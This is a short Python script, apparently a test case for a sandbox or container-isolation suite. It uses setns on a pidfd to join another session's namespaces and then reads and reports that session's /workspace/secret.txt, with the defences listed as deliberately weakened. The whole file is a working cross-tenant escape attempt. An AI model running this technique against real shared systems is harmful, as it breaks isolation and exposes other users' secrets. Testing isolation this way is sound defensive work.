"""Joins another session's namespaces.

group: neighbour
weaken: caps filter pidns uids
victim: yes
"""

from attack import *


def attempt(pid):
    # mounts, network and the rest, through a descriptor of the process
    if syscall(NR["setns"], os.pidfd_open(pid), 0x6C020000 & ~0x20000000) == 0:
        with open("/workspace/secret.txt") as f:
            flag("%d: %s" % (pid, f.read()))


for pid in kernels_of_others():
    in_child(lambda: attempt(pid))
